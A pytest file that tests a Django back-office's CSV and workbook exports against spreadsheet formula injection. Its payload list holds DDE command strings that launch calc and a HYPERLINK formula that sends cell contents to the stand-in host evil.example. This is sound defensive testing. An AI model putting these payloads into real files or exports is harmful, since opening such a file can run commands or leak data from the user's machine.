"""S6: no export holds a formula. One writer makes every table, and what it writes is read again cell by cell."""

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import reverse

from backoffice.core.export import csv_chunks, xlsx_chunks
from tests.factories.planted import plant
from tests.factories.staff import sign_in
from tests.pages.conftest import World

ROOT = Path(__file__).resolve().parents[2]
APPS = ("accounting", "backoffice", "integrations", "inventory", "orders", "warehouse")
# A shop's own folder takes the very codes; the other two write months, currencies and figures, no text of anybody's.
OTHER_WRITERS = {
    "integrations/connectors/csv_folder/connector.py",
    "backoffice/dashboard/reports.py",
    "orders/management/commands/report.py",
}
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "''=", "＝", "＋", "－", "＠", "=\0"]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"pay")', "SUM(1:1)*cmd|'/C calc'!A0"]
PAYLOADS = [start + body for start in STARTS for body in BODIES]


def test_only_one_module_writes_tables():
    writers = set()
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text()
            if "csv" not in text and "xlsx" not in text.lower():
                continue
            for node in ast.walk(ast.parse(text)):
                made = isinstance(node, ast.Call) and ast.unparse(node.func) in (
                    "csv.writer",
                    "csv.DictWriter",
                    "Workbook",
                )
                if made:
                    writers.add(str(path.relative_to(ROOT)))

    assert writers == {"backoffice/core/export.py"} | OTHER_WRITERS


def test_sixty_payloads_are_texts_in_a_csv():
    content = b"".join(csv_chunks(PAYLOADS, [PAYLOADS])).decode("utf-8-sig")

    for row in csv.reader(io.StringIO(content.replace("\0", ""))):
        assert len(row) == len(PAYLOADS) >= 40
        assert [cell for cell in row if not cell.startswith("'")] == []


@pytest.mark.parametrize("place", ["heading", "cell"])
def test_sixty_payloads_are_texts_in_a_workbook(place):
    clean = [text.replace("\0", "") for text in PAYLOADS]  # no workbook holds a NUL
    heads, rows = (clean, []) if place == "heading" else (["x"] * len(clean), [clean])
    content = b"".join(xlsx_chunks(heads, rows))

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
        everything = "".join(book.read(name).decode("latin-1") for name in book.namelist())
    assert sheets
    for sheet in sheets:
        assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
        kinds = set(re.findall(r'<c [^>]*t="(\w+)"', sheet))
        assert kinds <= {"s", "inlineStr"} and len(re.findall(r"<c ", sheet)) >= len(clean)
    assert "externalLink" not in everything and "ddeLink" not in everything


def _formulas(content: bytes, kind: str) -> list[str]:
    """Cells that a spreadsheet would calculate, and what else in a workbook would reach out."""
    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        return [cell for cell in cells if cell[:1] in "=+-@\t\r＝＋－＠" and not re.fullmatch(r"[+-]?[\d.,  ]*", cell)]
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        everything = "".join(book.read(name).decode("latin-1") for name in book.namelist())
    return re.findall(r"<f[ >]|<hyperlink|externalLink|ddeLink", everything)


@pytest.mark.django_db(transaction=True)
def test_every_list_is_taken_away_without_a_formula():
    """Each list of the admin, as CSV and as a workbook, with payloads in whatever people and shops write."""
    World()
    owner, taken, found = sign_in("owner"), 0, {}
    assert plant(PAYLOADS[:40]) >= 20

    for model in admin.site._registry:
        address = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        for kind in ("csv", "xlsx"):
            answer = owner.get(address, {"export": kind})
            if answer.status_code == 200 and "attachment" in answer.get("Content-Disposition", ""):
                content = b"".join(answer.streaming_content) if answer.streaming else answer.content
                taken += 1
                if bad := _formulas(content, kind):
                    found[address, kind] = bad[:3]

    assert found == {} and taken >= 100
